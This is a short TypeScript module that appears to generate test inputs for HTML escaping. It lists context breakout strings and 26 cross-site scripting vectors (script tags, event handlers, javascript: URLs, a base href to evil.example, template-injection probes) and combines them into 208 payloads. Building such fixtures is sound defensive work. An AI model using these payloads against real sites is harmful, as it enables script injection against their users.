/** Ways out of where a text stands: of an attribute, an element, a comment. */
export const breakouts = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '</style>'] as const

/** What would run script, fetch something or be worked out, if it were more than text. Each says `alert(1)` or asks for /x. */
export const vectors = [
  '<script>alert(1)</script>',
  '<script src=/x></script>',
  '<img src=/x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=/x>',
  '<embed src=/x>',
  '<a href=javascript:alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=/x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style>@import "/x"</style>',
  '<link rel=stylesheet href=/x>',
  '<meta http-equiv=refresh content="0;url=/x">',
  '<base href=https://evil.example>',
  '<form action=/x><button autofocus>x',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<p style="background:url(/x)">',
  '<template><script>alert(1)</script></template>',
  '<xss tabindex=1 onfocus=alert(1) autofocus>',
  `{{7*7}} \${7*7} <%=7*7%>`,
] as const

/** Each vector after each way out: 208. */
export const payloads = vectors.flatMap((vector) => breakouts.map((breakout) => breakout + vector))
